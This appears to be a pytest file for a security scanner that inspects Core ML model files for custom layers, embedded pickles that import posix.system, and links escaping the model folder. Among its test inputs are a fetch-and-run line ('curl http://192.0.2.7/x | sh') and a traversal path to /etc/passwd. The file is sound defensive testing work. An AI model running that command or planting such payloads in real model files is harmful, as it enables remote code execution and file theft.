"""Core ML: custom code, files outside, weights."""

import base64

import pytest
from format_files import PICKLE, assert_total, look

from benchmarks.corpus.malicious.formats2.coreml import (
    custom_layer,
    layer,
    linked,
    manifest,
    metadata,
    model,
    network,
    program,
    weights,
)
from toadstone.checks.model.custom_operator import CustomOperator
from toadstone.core.fact import Import, Link, Operator, Text
from toadstone.core.finding import Severity

PLAIN = network(layer("a"), layer("b"))


def test_plain_model_is_complete_and_silent() -> None:
    seen = look(PLAIN, "model.mlmodel")
    assert (seen.kind, seen.unread, seen.anomalies, seen.of(Operator), seen.of(Link)) == ("coreml", [], [], [], [])
    assert look(PLAIN, "weights").kind == "coreml"


@pytest.mark.parametrize(
    ("class_name", "texts", "severity"),
    [
        ("Swish", {}, Severity.MEDIUM),
        ("Swish", {"mode": "fast"}, Severity.MEDIUM),
        ("Swish", {"script": "curl http://192.0.2.7/x | sh"}, Severity.HIGH),
        ("NSTask", {}, Severity.HIGH),
    ],
)
def test_custom_layers(class_name: str, texts: dict[str, str], severity: Severity) -> None:
    (fact,) = look(network(layer("a"), custom_layer(class_name, **texts)), "m.mlmodel").of(Operator)
    assert [finding.severity for finding in CustomOperator().examine(fact)] == [severity]
    assert (fact.domain, fact.name, fact.node) == ("coreml.custom", class_name, "custom")


def test_custom_models_and_parameters_that_are_pickles() -> None:
    packed = base64.b64encode(PICKLE).decode()
    seen = look(model(555, b"\x52\x06Remote"), "m.mlmodel")
    assert [fact.name for fact in seen.of(Operator)] == ["Remote"]
    assert "posix.system" in {
        str(fact.symbol) for fact in look(network(custom_layer("Swish", code=packed)), "m.mlmodel").of(Import)
    }


@pytest.mark.parametrize(
    ("data", "name", "targets"),
    [
        (linked("../outside.mlmodelc"), "m.mlmodel", [("../outside.mlmodelc", True), (".", False)]),
        (linked("other.mlmodelc", "/tmp/shared"), "m.mlmodel", [("other.mlmodelc", False), ("/tmp/shared", True)]),
        (program("@model_path/weights/weight.bin"), "m.mlmodel", [("@model_path/weights/weight.bin", False)]),
        (program("@model_path/../../etc/passwd"), "m.mlmodel", [("@model_path/../../etc/passwd", True)]),
        (manifest("../../outside.mlmodel"), "Manifest.json", [("../../outside.mlmodel", True)]),
        (manifest("com.apple.CoreML/model.mlmodel"), "Manifest.json", []),
    ],
)
def test_files_that_are_named(data: bytes, name: str, targets: list[tuple[str, bool]]) -> None:
    assert [(fact.target, fact.escapes) for fact in look(data, name).of(Link)] == targets


def test_metadata_is_text() -> None:
    texts = {fact.text for fact in look(model(500, layer("a"), metadata(notes="trained on real data")), "m.mlmodel").of(Text)}
    assert texts == {"A small model", "toad", "trained on real data"}


def test_weights() -> None:
    data = weights(bytes(range(1, 65)), bytes(range(1, 33)))
    seen = look(data, "weight.bin")
    assert (seen.kind, seen.unread, seen.anomalies) == ("coreml-weights", [], [])
    assert "posix.system" in {str(fact.symbol) for fact in look(data + PICKLE, "weight.bin").of(Import)}
    broken = data[:72] + (1 << 40).to_bytes(8, "little") + data[80:]
    assert look(broken, "weight.bin").anomalies == ["tensor-bounds"]


def test_what_follows_the_message_is_looked_into() -> None:
    assert "posix.system" in {str(fact.symbol) for fact in look(PLAIN + PICKLE, "m.mlmodel").of(Import)}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("m.mlmodel", network(layer("a"), custom_layer("Swish", script="x"))),
        ("l.mlmodel", linked("a")),
        ("weight.bin", weights(b"abcd")),
    ],
)
def test_total(name: str, data: bytes) -> None:
    assert_total(data, name)
